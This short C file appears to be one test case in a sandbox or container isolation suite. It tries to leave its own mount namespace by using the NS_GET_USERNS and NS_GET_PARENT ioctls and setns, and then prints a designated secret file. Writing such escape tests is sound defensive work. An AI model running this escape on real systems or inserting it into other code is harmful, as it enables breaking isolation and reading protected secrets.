#include "attack.h"
// NS_GET_USERNS on an own namespace hands out the one above.
ATTACK(.judge = "secret:file", .needs = "root") {
  int ns = open("/proc/self/ns/mnt", O_RDONLY), owner = ioctl(ns, 0xb701), up = ioctl(owner, 0xb702);
  if (setns(up < 0 ? owner : up, 0)) note("setns");
  cat(arg("secret"));
}
